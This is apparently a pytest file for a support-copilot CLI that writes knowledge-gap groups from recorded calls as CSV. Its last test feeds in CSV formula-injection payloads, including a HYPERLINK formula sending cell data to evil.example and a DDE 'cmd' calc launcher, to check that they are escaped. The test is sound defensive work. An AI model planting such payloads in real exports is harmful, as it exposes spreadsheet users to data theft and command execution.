"""``copilot kb gaps``: the knowledge gaps of the recorded sessions as CSV on standard output."""

from __future__ import annotations

import csv
import io
from datetime import datetime

from recorded import CALL_EN, CALL_NL, record_call

from copilot.cli.main import main
from copilot.config import paths
from copilot.record.recorder import BackgroundRecorder

T0 = 1_700_000_000.0
DAY = 86_400.0


def gaps(capsys, *args):
    code = main(["kb", "gaps", *args])
    captured = capsys.readouterr()
    return code, list(csv.reader(io.StringIO(captured.out))), captured.err


def day(ts):
    return datetime.fromtimestamp(ts).strftime("%Y-%m-%d")  # the team lead's own calendar


def record_calls():
    recorder = BackgroundRecorder(paths.database_path())  # the database the panel records into
    try:
        record_call(recorder, CALL_EN, start=T0, agent_name="ann")
        record_call(recorder, CALL_NL, start=T0 + DAY, agent_name="bob")
        record_call(recorder, CALL_EN, start=T0 + 3 * DAY, agent_name="cid")
        recorder.flush()
    finally:
        recorder.close()


def test_gaps_are_written_as_csv_most_asked_first(capsys):
    record_calls()
    code, rows, err = gaps(capsys)
    assert code == 0, err
    assert rows[0] == ["group", "count", "example questions", "last seen"]
    assert [row[:3] for row in rows[1:]] == [["bill", "2", "Hello, I have a question about my bill"],
                                             ["factuur", "1", "Goedemiddag, ik heb een vraag over mijn factuur"]]


def test_since_until_and_agent_narrow_the_sessions(capsys):
    record_calls()
    _, rows, _ = gaps(capsys, "--since", day(T0 + 2 * DAY))
    assert [row[:2] for row in rows[1:]] == [["bill", "1"]]
    _, rows, _ = gaps(capsys, "--until", day(T0 + DAY), "--agent", "bob")
    assert [row[:2] for row in rows[1:]] == [["factuur", "1"]]


def test_a_bad_date_exits_2_and_no_database_is_only_a_header(capsys, tmp_path):
    code, rows, err = gaps(capsys, "--since", "last tuesday")
    assert code == 2 and rows == [] and "--since" in err and "YYYY-MM-DD" in err
    code, rows, err = gaps(capsys)
    assert code == 0 and rows == [["group", "count", "example questions", "last seen"]]
    assert "no recorded sessions yet" in err and not paths.database_path().exists()


def test_a_customer_line_shaped_like_a_formula_stays_text_in_a_spreadsheet(capsys):
    """A customer who types a spreadsheet formula into the chat ("=HYPERLINK(...)", "@SUM(...)", "+31 ...")
    reaches the team lead's spreadsheet through the gaps file: opened in Excel or LibreOffice, a cell starting
    with = + - @ is run as a formula (a link that sends the sheet's contents away, or worse). Such a cell gets a
    leading apostrophe, which spreadsheets read as "this is text"."""
    hostile = [
        '=HYPERLINK("https://evil.example/?q="&A2,"Click for your refund")',
        "@SUM(1+1)*cmd|' /C calc'!A0 is my question about the invoice",
        "+31 6 12345678 why was my invoice charged twice",
        "-2+3 invoice question",
    ]
    recorder = BackgroundRecorder(paths.database_path())
    try:
        for number, line in enumerate(hostile):
            record_call(recorder, [("customer", line), ("agent", "Let me check"), ("customer", line)],
                        start=T0 + number * DAY, agent_name="ann")
        recorder.flush()
    finally:
        recorder.close()
    code, rows, err = gaps(capsys)
    assert code == 0, err
    cells = [cell for row in rows[1:] for cell in row]
    assert any("HYPERLINK" in cell for cell in cells)
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert any(cell.startswith("'=HYPERLINK") for cell in cells)
